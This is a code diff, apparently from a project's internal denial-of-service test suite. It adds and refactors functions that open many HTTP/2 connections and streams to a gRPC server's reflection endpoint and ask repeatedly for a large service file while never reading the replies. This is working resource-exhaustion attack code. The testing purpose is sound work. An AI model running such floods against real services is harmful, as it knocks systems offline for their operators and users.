@@ -48,18 +48,25 @@ export const watchers: InternalAttack = async (port) => {
 
 /** Four connections with windows as large as they can be ask for the largest file again and again, and read no answer. */
 export const unreadReflection: InternalAttack = async (port) => {
-  const symbol = Buffer.from('attestry.ledger.v1.IncidentService')
-  const request = Buffer.concat([Buffer.from([0x22, symbol.length]), symbol])
-  const message = Buffer.concat([Buffer.alloc(4), Buffer.from([request.length]), request])
-  const question = frame(DATA, 0, 1, message)
+  const question = frame(DATA, 0, 1, LARGEST_FILE)
   await held(port, 4, async (socket) => {
     const window = Buffer.from([0, 4, 0x7f, 0xff, 0xff, 0xff])
     const more = Buffer.from([0x7f, 0xfe, 0, 0])
     await write(socket, [frame(SETTINGS, 0, 0, window), frame(WINDOW_UPDATE, 0, 0, more)])
-    const path = '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo'
-    await write(socket, [headers(1, path, GRPC_HEADERS, 0)])
+    await write(socket, [headers(1, REFLECTION, GRPC_HEADERS, 0)])
     const blob = Array.from({ length: 200 }, () => question)
     for (let n = 0; n < 100 && !socket.destroyed; n++) await write(socket, blob)
+  })
+}
+
+/** Twenty connections of 500 streams each, with windows of nothing: each asks for the largest file once, and no answer can be sent. */
+export const unreadReflectionStreams: InternalAttack = async (port) => {
+  await held(port, 20, async (socket) => {
+    await write(socket, [frame(SETTINGS, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0]))])
+    await streams(socket, 500, (id) => [
+      headers(id, REFLECTION, GRPC_HEADERS, 0),
+      frame(DATA, 0, id, LARGEST_FILE),
+    ])
   })
 }
 
@@ -72,6 +79,16 @@ export const unfinishedBodies: InternalAttack = async (port) => {
       frame(DATA, 0, id, begun),
     ]),
   )
+}
+
+const REFLECTION = '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo'
+/** A message that asks for the file of a service whose file is large. */
+const LARGEST_FILE = message(0x22, Buffer.from('attestry.ledger.v1.IncidentService'))
+
+/** A message of gRPC with one field of bytes. */
+function message(tag: number, value: Buffer): Buffer {
+  const field = Buffer.concat([Buffer.from([tag, value.length]), value])
+  return Buffer.concat([Buffer.alloc(4), Buffer.from([field.length]), field])
 }
 
 /** A connection that reads nothing. */
